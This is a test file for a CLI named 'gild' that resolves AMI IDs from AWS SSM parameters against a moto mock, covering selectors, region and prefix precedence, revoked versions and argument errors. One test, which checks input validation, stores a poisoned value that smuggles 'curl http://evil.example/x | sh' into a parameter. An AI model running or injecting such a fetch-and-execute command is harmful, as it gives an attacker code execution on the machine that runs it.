/**
 * `gild resolve` and `resolveImage` against moto: every selector, where the
 * prefix and region come from, and the errors, in a folder with no images/.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { PutParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import { runCli } from '../../src/cli.ts';
import type { Io } from '../../src/commands/io.ts';
import { GildError } from '../../src/errors.ts';
import { resolveImage } from '../../src/index.ts';
import { startMoto, type MotoServer } from '../support/moto.ts';

let moto: MotoServer;
let ssm: SSMClient;
let folder: string;

beforeAll(async () => {
  moto = await startMoto();
  ssm = new SSMClient({ region: 'us-east-1', endpoint: moto.endpoint, credentials: { accessKeyId: 'test', secretAccessKey: 'test' } });
});
afterAll(async () => {
  ssm?.destroy();
  await moto?.stop();
});
beforeEach(async () => {
  await moto.reset();
  folder = await mkdtemp(path.join(tmpdir(), 'gild-resolve-'));
  return () => rm(folder, { recursive: true, force: true });
});

async function publish(parameters: Record<string, string>): Promise<void> {
  for (const [name, value] of Object.entries(parameters))
    await ssm.send(new PutParameterCommand({ Name: name, Value: value, Type: 'String', DataType: name.includes('/status/') ? 'text' : 'aws:ec2:image' }));
}

/** Runs `gild <args>` in-process in the test's folder; returns the exit code and what was written. */
async function gild(args: readonly string[], env: Record<string, string | undefined> = moto.env) {
  const output = { stdout: '', stderr: '' };
  const io: Io = {
    cwd: folder,
    env,
    stdout: (text) => void (output.stdout += text),
    stderr: (text) => void (output.stderr += text),
    isTTY: false,
    exit: (code) => {
      throw new Error(`resolve asked to exit with ${code}`);
    },
  };
  const exitCode = await runCli(args, io);
  return { exitCode, ...output };
}

const webVersions = {
  '/golden/web/latest': 'ami-0000000000000000a',
  '/golden/web/versions/1.9.0': 'ami-00000000000000190',
  '/golden/web/versions/2.0.0': 'ami-00000000000000200',
  '/golden/web/versions/2.10.1': 'ami-00000000000002101',
  '/golden/web/versions/2.9.4': 'ami-00000000000000294',
  '/golden/web/versions/3.0.0-rc.1': 'ami-0000000000000300c',
  '/golden/web/channels/stable': 'ami-0000000000000000d',
  '/golden/web/v2': 'ami-0000000000000000b',
};

describe('gild resolve', () => {
  it.each([
    [[], 'ami-0000000000000000a'],
    [['--version', '2.9.4'], 'ami-00000000000000294'],
    [['--range', '^2'], 'ami-00000000000002101'],
    [['--range', '~2.9'], 'ami-00000000000000294'],
    [['--range', '>=1 <2'], 'ami-00000000000000190'],
    [['--channel', 'stable'], 'ami-0000000000000000d'],
    [['--major', '2'], 'ami-0000000000000000b'],
  ])('resolves web %j to the AMI that selector names, with no images/ folder', async (selector, amiId) => {
    await publish(webVersions);
    const result = await gild(['resolve', 'web', ...selector]);
    expect(result).toEqual({ exitCode: 0, stdout: `${amiId}\n`, stderr: '' });
  });

  it('reads the region from --region before AWS_REGION', async () => {
    const west = new SSMClient({ region: 'eu-west-1', endpoint: moto.endpoint, credentials: { accessKeyId: 'test', secretAccessKey: 'test' } });
    await west.send(new PutParameterCommand({ Name: '/golden/web/latest', Value: 'ami-0000000000000000e', Type: 'String', DataType: 'aws:ec2:image' }));
    west.destroy();
    expect((await gild(['resolve', 'web', '--region', 'eu-west-1'])).stdout).toBe('ami-0000000000000000e\n');
  });

  it('takes the prefix from --prefix, then GILD_SSM_PREFIX, then pipeline/settings.ts', async () => {
    await publish({ '/flag/web/latest': 'ami-000000000000000f1', '/env/web/latest': 'ami-000000000000000e1', '/settings/web/latest': 'ami-000000000000000a1' });
    await mkdir(path.join(folder, 'pipeline'));
    // The folder has no node_modules: 'gild' is the engine loading the file.
    await writeFile(path.join(folder, 'pipeline/settings.ts'), "import { defineSettings } from 'gild';\nexport default defineSettings({ ssmPrefix: '/settings' });\n");
    expect((await gild(['resolve', 'web', '--prefix', '/flag'], { ...moto.env, GILD_SSM_PREFIX: '/env' })).stdout).toBe('ami-000000000000000f1\n');
    expect((await gild(['resolve', 'web'], { ...moto.env, GILD_SSM_PREFIX: '/env' })).stdout).toBe('ami-000000000000000e1\n');
    expect((await gild(['resolve', 'web'])).stdout).toBe('ami-000000000000000a1\n');
  });

  it('exits 1 naming the parameter and how to fix it when nothing is published', async () => {
    const result = await gild(['resolve', 'web', '--version', '4.0.0']);
    expect(result.exitCode).toBe(1);
    expect(result.stderr).toBe('gild: Image "web" has no published AMI in us-east-1: parameter /golden/web/versions/4.0.0 does not exist. Run `gild run web` first.\n');
  });

  it('exits 1 listing the published versions when none satisfies the range', async () => {
    await publish(webVersions);
    const result = await gild(['resolve', 'web', '--range', '^4']);
    expect(result.exitCode).toBe(1);
    expect(result.stderr).toContain('Image "web" has no published version in us-east-1 that satisfies "^4" (under /golden/web/versions: 1.9.0, 2.0.0, 2.9.4, 2.10.1, 3.0.0-rc.1)');
  });

  it('exits 2 with every problem at once for a bad region, two selectors and a bad range', async () => {
    const result = await gild(['resolve', 'Web', '--region', 'us-east-9', '--version', '1.0.0', '--range', 'not a range']);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^gild: resolve: 4 problems with the arguments/);
    expect(result.stderr).toContain('- image "Web" is not an image name');
    expect(result.stderr).toContain('- region "us-east-9" is not an AWS region. Did you mean "us-east-1"?');
    expect(result.stderr).toContain('- --version, --range: choose one of');
    expect(result.stderr).toContain('- range "not a range" is not a semver range');
  });

  it('exits 2 when no region is given or configured', async () => {
    const result = await gild(['resolve', 'web'], { ...moto.env, AWS_REGION: undefined, AWS_DEFAULT_REGION: undefined });
    expect(result).toMatchObject({ exitCode: 2, stdout: '' });
    expect(result.stderr).toContain('Pass --region <region>');
  });
});

describe('resolveImage', () => {
  it('answers with the AMI, the parameter and the version, through the client it is given', async () => {
    await publish(webVersions);
    expect(await resolveImage({ image: 'web', region: 'us-east-1', range: '2.x', client: ssm })).toEqual({
      amiId: 'ami-00000000000002101',
      parameterName: '/golden/web/versions/2.10.1',
      region: 'us-east-1',
      version: '2.10.1',
      revoked: false,
      deprecated: false,
      deprecationTime: undefined,
    });
    // The caller's client is still open afterwards.
    expect(await resolveImage({ image: 'web', region: 'us-east-1', client: ssm })).toMatchObject({ amiId: 'ami-0000000000000000a' });
  });

  it('makes its own client from the environment it is given', async () => {
    await publish({ '/acme/web/v2': 'ami-0000000000000000b' });
    expect(await resolveImage({ image: 'web', region: 'us-east-1', prefix: '/acme', major: 2, env: moto.env })).toMatchObject({ amiId: 'ami-0000000000000000b', parameterName: '/acme/web/v2' });
  });
});

describe('revoked and poisoned parameters', () => {
  const revokedStatus = JSON.stringify({
    revoked: { reason: 'CVE-2026-0001 in openssl', at: '2026-11-29T10:00:00.000Z', by: 'ops@ci', replacement: '2.9.4' },
    deprecationTime: '2026-11-29T10:00:05.000Z',
  });
  const withRevoked = { ...webVersions, '/golden/web/latest': 'ami-00000000000002101', '/golden/web/status/2.10.1': revokedStatus };

  it.each([[['--version', '2.10.1']], [[]]])('refuses a revoked version by default (%j): EREVOKED, exit 1, with the reason and the replacement', async (selector) => {
    await publish(withRevoked);
    const result = await gild(['resolve', 'web', ...selector]);
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain('Image "web" 2.10.1 in us-east-1 (ami-00000000000002101, from ');
    expect(result.stderr).toContain('was revoked: CVE-2026-0001 in openssl (by ops@ci at 2026-11-29T10:00:00.000Z). Use 2.9.4 instead (`gild resolve web --version 2.9.4`), or pass --allow-revoked');
  });

  it('skips a revoked version in a range, and --allow-revoked returns it, marked, with a warning', async () => {
    await publish(withRevoked);
    expect(await gild(['resolve', 'web', '--range', '^2'])).toEqual({ exitCode: 0, stdout: 'ami-00000000000000294\n', stderr: '' });
    const allowed = await gild(['resolve', 'web', '--version', '2.10.1', '--allow-revoked', '--json']);
    expect(allowed.exitCode).toBe(0);
    expect(allowed.stderr).toMatch(/^warning: web 2\.10\.1 \(ami-00000000000002101, \/golden\/web\/versions\/2\.10\.1\) is revoked: CVE-2026-0001 in openssl/);
    expect(JSON.parse(allowed.stdout)).toEqual({
      amiId: 'ami-00000000000002101',
      parameterName: '/golden/web/versions/2.10.1',
      region: 'us-east-1',
      version: '2.10.1',
      revoked: true,
      revocation: { reason: 'CVE-2026-0001 in openssl', at: '2026-11-29T10:00:00.000Z', by: 'ops@ci', replacement: '2.9.4' },
      deprecated: true,
      deprecationTime: '2026-11-29T10:00:05.000Z',
    });
    expect(await resolveImage({ image: 'web', region: 'us-east-1', client: ssm, range: '^2', allowRevoked: true })).toMatchObject({ version: '2.10.1', revoked: true, deprecated: true });
    const refused = await resolveImage({ image: 'web', region: 'us-east-1', client: ssm, version: '2.10.1' }).catch((error: unknown) => error);
    expect(refused).toBeInstanceOf(GildError);
    expect(refused).toMatchObject({ code: 'EREVOKED', kind: 'pipeline', details: ['reason: CVE-2026-0001 in openssl', 'replacement: 2.9.4'] });
  });

  it('refuses a parameter that does not hold an AMI ID, or is not of data type aws:ec2:image, naming it', async () => {
    await ssm.send(new PutParameterCommand({ Name: '/golden/web/latest', Value: 'ami-xyz; curl http://evil.example/x | sh', Type: 'String', DataType: 'aws:ec2:image' }));
    const poisoned = await gild(['resolve', 'web']);
    expect(poisoned).toMatchObject({ exitCode: 1, stdout: '' });
    expect(poisoned.stderr).toBe(
      'gild: Parameter /golden/web/latest in us-east-1 does not name an AMI: it holds "ami-xyz; curl http://evil.example/x | sh", which is not an AMI ID (ami- and 8 or 17 hex digits). Nothing was returned. gild writes only AMI IDs as aws:ec2:image; someone else wrote this: run `gild verify --repair` or publish again with `gild run`.\n',
    );
    await ssm.send(new PutParameterCommand({ Name: '/golden/web/channels/stable', Value: 'ami-0123456789abcdef0', Type: 'String' }));
    const text = await resolveImage({ image: 'web', region: 'us-east-1', client: ssm, channel: 'stable' }).catch((error: unknown) => error);
    expect(text).toMatchObject({
      code: 'EBADPARAMETER',
      message: expect.stringContaining('Parameter /golden/web/channels/stable in us-east-1 does not name an AMI: its data type is text, not aws:ec2:image'),
    });
    for (const value of ['ami-12345', 'ami-0123456789ABCDEF0', ' ami-0123456789abcdef0', 'ami-0123456789abcdef0\n']) {
      await ssm.send(new PutParameterCommand({ Name: '/golden/web/v3', Value: value, Type: 'String', DataType: 'aws:ec2:image', Overwrite: true }));
      await expect(resolveImage({ image: 'web', region: 'us-east-1', client: ssm, major: 3 })).rejects.toMatchObject({ code: 'EBADPARAMETER' });
    }
  });

  it.each([
    [null, 'resolveImage: expected a request such as'],
    [undefined, 'resolveImage: expected a request such as'],
    ['web', 'got string'],
    [{ image: 5, region: 'us-east-1' }, 'image must be a string such as "web", not number'],
    [{ image: 'web', region: null }, 'region must be a string such as "eu-west-1", not null'],
    [{ image: 'web', region: 'us-east-1', version: 1 }, 'version must be a string, not number'],
    [{ image: 'web', region: 'us-east-1', major: {} }, 'major must be a number such as 2, not object'],
    [{ image: 'web', region: 'us-east-1', allowRevoked: 'yes' }, 'allowRevoked must be true or false, not string'],
    [{ image: 'web', region: 'us-east-1', client: {} }, 'client must be an SSMClient, not object'],
  ])('answers every bad argument %j with a GildError, never a TypeError', async (request, message) => {
    const error = await resolveImage(request as never).catch((thrown: unknown) => thrown);
    expect(error).toBeInstanceOf(GildError);
    expect(error).toMatchObject({ code: 'EUSAGE', kind: 'usage', message: expect.stringContaining(message) });
  });
});
